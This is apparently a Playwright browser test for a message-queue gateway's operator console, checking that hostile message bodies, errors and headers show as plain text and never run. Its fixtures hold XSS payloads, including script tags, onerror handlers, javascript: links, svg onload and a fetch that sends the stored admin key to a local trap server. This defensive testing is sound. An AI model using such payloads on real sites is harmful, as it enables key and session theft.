// The operator console in a real browser: headless Chromium (Debian's package, driven by
// playwright-core) signs in at /console with an admin key, watches the queues' backlog move when a
// message is pushed, peeks it and purges one, sees a dead letter and replays it, and sees a refused
// webhook appear. Every body, error and request id it is shown is hostile (<script>, <img onerror>,
// javascript: links, a tracking pixel): the test proves nothing runs, nothing loads, no CSP
// violation even happens (text is never parsed as markup), and the key stays out of reach.
//
// The dead letter: a buffered queue whose upstream is `cloudflare`, pointed (QUEUES_API_BASE_URL)
// at a small Cloudflare REST stand-in served by this test. It answers pushes with 413 / 10204, a
// permanent refusal, so the buffer isolates the message into its dead letters (a refusing stand-in,
// not an unreachable URL: an unreachable upstream is a transient failure the buffer backs off
// from and retries forever; the local queue never refuses a message the gateway accepted). Then
// the stand-in accepts, and the console's replay delivers it.
import assert from "node:assert/strict";
import { createHash, createHmac } from "node:crypto";
import { mkdirSync, readFileSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { parseEnv } from "node:util";
import { freePort, startWorker } from "../../bench/lib.mjs";
import { launchChromium } from "./harness.mjs";

const OUTPUT = process.env.TEST_OUTPUT_DIR ?? "test-results";
const ADMIN_KEY = "local-dev-key";
const PUSH_ONLY_KEY = "console-test-push-only-key";
const POISON_ID = "0123456789abcdef0123456789abcd01";
const ACCOUNT_ID = "0123456789abcdef0123456789abcdef";
const KEY_STORAGE = "tributary.console.key";
/** The development webhook secret (.dev.vars.example). */
const DEV_SECRET = "local-dev-secret";
/** Generous: the console refreshes every 3 s, and the buffer flushes within max_wait_ms. */
const SEEN_WITHIN_MS = 15_000;

let gateway;
let upstream;
let trap;
let browser;
let page;
/** The hostile strings of this run (they name the trap server's port). */
let hostileText;
const trapHits = [];
const offOrigin = [];
const dialogs = [];
const violations = [];
const pageErrors = [];

/** The Cloudflare REST stand-in for queue `poison`: refuses pushes permanently until told to accept. */
const standIn = { refusing: true, received: [] };

/** Markup and script that would run, load or navigate if the console ever parsed what it shows. */
function hostile(trapBase) {
  const steal = `fetch('${trapBase}/steal?k='+sessionStorage.getItem('${KEY_STORAGE}'))`;
  return {
    script: `<script>window.__pwned='script';${steal}</script>`,
    img: `<img src=x onerror="window.__pwned='img';${steal}">`,
    link: `<a href="javascript:window.__pwned='link'">open</a> javascript:alert(document.domain)`,
    pixel: `<img src="${trapBase}/pixel.gif"><link rel=stylesheet href="${trapBase}/x.css">`,
    svg: `<svg/onload="window.__pwned='svg'"><iframe srcdoc="<script>parent.__pwned='frame'</script>">`,
  };
}

const json = (res, status, body) => {
  res.writeHead(status, { "content-type": "application/json" });
  res.end(JSON.stringify(body));
};

function startStandIn(error) {
  return createServer(async (req, res) => {
    let text = "";
    for await (const chunk of req) text += chunk;
    const path = new URL(req.url, "http://stand-in").pathname;
    if (path.endsWith(`/queues/${POISON_ID}/messages/batch`)) {
      if (standIn.refusing)
        return json(res, 413, {
          success: false,
          errors: [{ code: 10204, message: error }],
          messages: [],
          result: null,
        });
      standIn.received.push(...JSON.parse(text).messages);
      return json(res, 200, {
        success: true,
        errors: [],
        messages: [],
        result: { metadata: { metrics: { backlog_count: 0, backlog_bytes: 0, oldest_message_timestamp_ms: 0 } } },
      });
    }
    if (path.endsWith(`/queues/${POISON_ID}/metrics`)) {
      return json(res, 200, {
        success: true,
        errors: [],
        messages: [],
        result: { backlog_count: standIn.received.length, backlog_bytes: 0, oldest_message_timestamp_ms: 0 },
      });
    }
    json(res, 404, { success: false, errors: [{ code: 7003, message: "No route" }], messages: [], result: null });
  });
}

const listen = (server) =>
  new Promise((resolve) => server.listen(0, "127.0.0.1", () => resolve(`http://127.0.0.1:${server.address().port}`)));

async function api(path, body, key = ADMIN_KEY, headers = {}) {
  const res = await fetch(`${gateway.base}${path}`, {
    method: body === undefined ? "GET" : "POST",
    headers: { authorization: `Bearer ${key}`, "content-type": "application/json", ...headers },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  return { status: res.status, body: await res.json() };
}

const queuePath = (queue, action) => `/client/v4/accounts/local/queues/${queue}/${action}`;

/** The console's queue table cell, by queue and column (0 name … 2 backlog … 9 dead letters). */
const cell = (queue, column) =>
  page.evaluate(
    ([q, i]) => document.querySelector(`#queue-rows tr[data-queue="${q}"]`)?.children[i]?.textContent ?? null,
    [queue, column],
  );
const waitForCell = (queue, column, expected) =>
  page.waitForFunction(
    ([q, i, want]) => document.querySelector(`#queue-rows tr[data-queue="${q}"]`)?.children[i]?.textContent === want,
    [queue, column, expected],
    {
      timeout: SEEN_WITHIN_MS,
    },
  );
const BACKLOG = 2;
const DEAD_LETTERS = 9;

before(async () => {
  trap = createServer((req, res) => {
    trapHits.push(req.url);
    res.end();
  });
  const trapBase = await listen(trap);
  const payloads = hostile(trapBase);
  upstream = startStandIn(`${payloads.img} ${payloads.script}`);
  const upstreamBase = await listen(upstream);
  const devVars = parseEnv(readFileSync(".dev.vars.example", "utf8"));
  const keys = [
    ...JSON.parse(devVars.GATEWAY_KEYS),
    {
      name: "push-only",
      sha256: createHash("sha256").update(PUSH_ONLY_KEY).digest("hex"),
      queues: "*",
      scopes: ["push"],
    },
  ];
  gateway = await startWorker({
    config: "wrangler.toml",
    port: await freePort(),
    vars: {
      GATEWAY_KEYS: JSON.stringify(keys),
      QUEUES_API_BASE_URL: `${upstreamBase}/client/v4`,
      QUEUES_ACCOUNT_ID: ACCOUNT_ID,
      QUEUES_API_TOKEN: "stand-in-token",
      QUEUES: JSON.stringify({
        webhooks: { buffer: { shards: 1, max_wait_ms: 100 } },
        poison: { upstream: "cloudflare", cloudflare_id: POISON_ID, buffer: { shards: 1, max_wait_ms: 100 } },
      }),
    },
  });
  browser = await launchChromium();
  const context = await browser.newContext({ viewport: { width: 1400, height: 1000 } });
  // Anything the page asks of another origin is recorded and refused (the CSP should stop it first).
  await context.route("**/*", (route) => {
    const url = route.request().url();
    if (url.startsWith(`${gateway.base}/`)) return route.continue();
    offOrigin.push(url);
    return route.abort();
  });
  page = await context.newPage();
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (e) => {
      globalThis.__violations = [...(globalThis.__violations ?? []), `${e.violatedDirective} ${e.blockedURI}`];
    });
  });
  page.on("dialog", async (dialog) => {
    // The console's own confirmations of purge and delete; anything else (an alert) would be injected.
    if (dialog.type() === "confirm" && dialog.message().startsWith("Delete ")) return dialog.accept();
    dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    return dialog.dismiss();
  });
  page.on("console", (message) => {
    if (/Content Security Policy|Trusted Type/i.test(message.text())) violations.push(message.text());
  });
  page.on("pageerror", (error) => pageErrors.push(error.message));
  hostileText = payloads;
});

after(async () => {
  await browser?.close();
  gateway?.stop();
  upstream?.close();
  trap?.close();
});

test("sign-in refuses an unknown key and a key without the admin scope", async () => {
  await page.goto(`${gateway.base}/console`);
  for (const [key, expected] of [
    ["not-a-key", /Sign-in failed/],
    [PUSH_ONLY_KEY, /does not have the admin scope/],
  ]) {
    await page.fill("#key", key);
    await page.click("#sign-in-form button[type=submit]");
    await page.waitForFunction(() => document.querySelector("#sign-in-error")?.textContent !== "");
    assert.match(await page.textContent("#sign-in-error"), expected);
    assert.equal(await page.evaluate((k) => sessionStorage.getItem(k), KEY_STORAGE), null);
    await page.evaluate(() => {
      document.querySelector("#sign-in-error").textContent = "";
    });
  }
  assert.equal(await page.isHidden("#app"), true);
});

test("an operator signs in and sees every queue with its backlog and buffer state", async () => {
  await page.fill("#key", ADMIN_KEY);
  await page.click("#sign-in-form button[type=submit]");
  await page.waitForSelector('#queue-rows tr[data-queue="poison"]', { timeout: SEEN_WITHIN_MS });
  const names = await page.$$eval("#queue-rows tr", (rows) => rows.map((r) => r.dataset.queue));
  for (const name of ["dead-letters", "events", "forms", "poison", "webhooks"])
    assert.ok(names.includes(name), `${name} in ${names}`);
  assert.equal(await cell("poison", 1), "cloudflare · buffered");
  assert.equal(await page.evaluate((k) => sessionStorage.getItem(k), KEY_STORAGE), ADMIN_KEY);
  assert.equal(await page.inputValue("#key"), "", "the key field is cleared");
  assert.ok(!page.url().includes(ADMIN_KEY));
});

test("a pushed message moves the backlog, on the table and the chart", async () => {
  const before = Number(await cell("webhooks", BACKLOG));
  const { script, img, link, pixel, svg } = hostileText;
  const messages = [
    { body: script, content_type: "text" },
    { body: `${link} ${pixel}`, content_type: "text" },
  ];
  const pushed = await api(queuePath("webhooks", "messages/batch"), { messages });
  assert.equal(pushed.status, 200);
  // A stranger's webhook, as signed JSON text: ingest keeps it digit for digit (the push route parses it).
  const webhook = `{"action":${JSON.stringify(img)},${JSON.stringify(svg)}:{"link":${JSON.stringify(link)},"html":${JSON.stringify(pixel)}},"big":12345678901234567890}`;
  const signature = `sha256=${createHmac("sha256", DEV_SECRET).update(webhook).digest("hex")}`;
  const ingested = await fetch(`${gateway.base}/ingest/github`, {
    method: "POST",
    headers: { "content-type": "application/json", "x-github-event": "issues", "x-hub-signature-256": signature },
    body: webhook,
  });
  assert.equal(ingested.status, 202);
  await waitForCell("webhooks", BACKLOG, String(before + 3));
  await page.waitForFunction(() => document.querySelectorAll("#chart svg polyline").length >= 5, null, {
    timeout: SEEN_WITHIN_MS,
  });
  assert.match(await page.textContent("#legend"), /webhooks \(3\)/);
});

test("a message the upstream refuses for good appears as a dead letter", async () => {
  const pushed = await api(queuePath("poison", "messages"), {
    body: `poison ${hostileText.script}`,
    content_type: "text",
  });
  assert.equal(pushed.status, 200);
  await waitForCell("poison", DEAD_LETTERS, "1");
});

test("a refused webhook appears under refusals with its reason", async () => {
  const refused = await fetch(`${gateway.base}/ingest/github`, {
    method: "POST",
    headers: {
      "content-type": "application/json",
      "x-hub-signature-256": `sha256=${"0".repeat(64)}`,
      "cf-ray": hostileText.img,
    },
    body: JSON.stringify({ note: hostileText.script }),
  });
  assert.equal(refused.status, 401);
  await page.waitForFunction(
    () => document.querySelector("#refusal-rows")?.textContent?.includes("signature_mismatch"),
    null,
    { timeout: SEEN_WITHIN_MS },
  );
  const row = await page.$$eval("#refusal-rows tr", (rows) =>
    rows.map((r) => [...r.children].map((td) => td.textContent)),
  );
  const [, source, queue, reason, status] = row[0];
  assert.deepEqual([source, queue, reason, status], ["github", "webhooks", "signature_mismatch", "401"]);
  assert.match(await page.textContent("#refusal-summary"), /githubsignature_mismatch1/);
});

test("peek shows bodies as text: JSON pretty-printed with its digits, markup as characters", async () => {
  await page.selectOption("#peek-queue", "webhooks");
  await page.click("#peek");
  await page.waitForFunction(() => document.querySelectorAll("#peeked li").length === 3, null, {
    timeout: SEEN_WITHIN_MS,
  });
  const bodies = await page.$$eval("#peeked pre", (pres) => pres.map((p) => p.textContent));
  assert.equal(bodies[0], hostileText.script);
  assert.equal(bodies[1], `${hostileText.link} ${hostileText.pixel}`);
  const envelope = bodies[2];
  assert.ok(envelope.includes('\n  "data": {\n    "action": '), `pretty-printed: ${envelope}`);
  assert.ok(envelope.includes('"big": 12345678901234567890'), envelope);
  assert.deepEqual(JSON.parse(envelope).data.action, hostileText.img);
  assert.equal(
    await page.$$eval(
      "#peeked *",
      (nodes) => nodes.filter((n) => !["LI", "HEADER", "LABEL", "INPUT", "SPAN", "PRE"].includes(n.tagName)).length,
    ),
    0,
  );
});

test("dead letters list their error and body as text", async () => {
  await page.selectOption("#dl-queue", "poison");
  await page.click("#dl-load");
  await page.waitForFunction(() => document.querySelectorAll("#dl-list li").length === 1, null, {
    timeout: SEEN_WITHIN_MS,
  });
  assert.equal(await page.textContent("#dl-list .error"), `${hostileText.img} ${hostileText.script}`);
  assert.equal(await page.textContent("#dl-list pre"), `poison ${hostileText.script}`);
  mkdirSync(OUTPUT, { recursive: true });
  await page.screenshot({ path: join(OUTPUT, "console.png"), fullPage: true });
});

test("purging a selected message removes it from the queue", async () => {
  const before = Number(await cell("webhooks", BACKLOG));
  await page.check("#peeked li:first-child input[type=checkbox]");
  await page.click("#purge");
  await page.waitForFunction(
    () => /Purged 1 of 1/.test(document.querySelector("#peek-note")?.textContent ?? ""),
    null,
    { timeout: SEEN_WITHIN_MS },
  );
  await waitForCell("webhooks", BACKLOG, String(before - 1));
  assert.equal(await page.$$eval("#peeked li", (items) => items.length), 2);
});

test("replaying a dead letter delivers it once the upstream takes it", async () => {
  standIn.refusing = false;
  await page.check("#dl-list li:first-child input[type=checkbox]");
  await page.click("#dl-replay");
  await page.waitForFunction(
    () => /Replayed 1 dead letter/.test(document.querySelector("#dl-note")?.textContent ?? ""),
    null,
    { timeout: SEEN_WITHIN_MS },
  );
  await waitForCell("poison", DEAD_LETTERS, "0");
  // Replayed means pending again: the shard pushes it on its next flush (max_wait_ms), not at once.
  for (const deadline = Date.now() + SEEN_WITHIN_MS; standIn.received.length === 0 && Date.now() < deadline; ) {
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  assert.deepEqual(
    standIn.received.map((m) => m.body),
    [`poison ${hostileText.script}`],
  );
});

test("nothing hostile ran, loaded or was even parsed, and the key is out of injected code's reach", async () => {
  assert.deepEqual(dialogs, []);
  assert.deepEqual(trapHits, []);
  assert.deepEqual(offOrigin, []);
  assert.deepEqual(violations, []);
  assert.deepEqual(pageErrors, []);
  const state = await page.evaluate(() => ({
    pwned: globalThis.__pwned ?? null,
    violations: globalThis.__violations ?? [],
    scripts: [...document.scripts].map((s) => s.getAttribute("src")),
    links: document.querySelectorAll("a, iframe, img, object, embed").length,
    cookies: document.cookie,
    local: localStorage.length,
    markup: document.documentElement.outerHTML,
  }));
  assert.equal(state.pwned, null);
  assert.deepEqual(state.violations, []);
  assert.deepEqual(state.scripts, ["/console/app.js"]);
  assert.equal(state.links, 0);
  assert.equal(state.cookies, "");
  assert.equal(state.local, 0);
  assert.ok(!state.markup.includes(ADMIN_KEY), "the key is nowhere in the document");
  assert.deepEqual(await page.context().cookies(), []);
  // Injected markup cannot run even where a bug put it: the CSP refuses inline script.
  const blocked = await page.evaluate(() => {
    const probe = document.createElement("div");
    document.body.append(probe);
    try {
      probe.innerHTML = "<img src=x onerror=\"window.__pwned='probe'\">";
      return "assigned";
    } catch (err) {
      return err.name;
    }
  });
  assert.equal(blocked, "TypeError", "Trusted Types refuse innerHTML with a string");
  assert.equal(await page.evaluate(() => globalThis.__pwned ?? null), null);
});

test("signing out forgets the key", async () => {
  await page.click("#sign-out");
  assert.equal(await page.evaluate((k) => sessionStorage.getItem(k), KEY_STORAGE), null);
  assert.equal(await page.isVisible("#sign-in"), true);
});
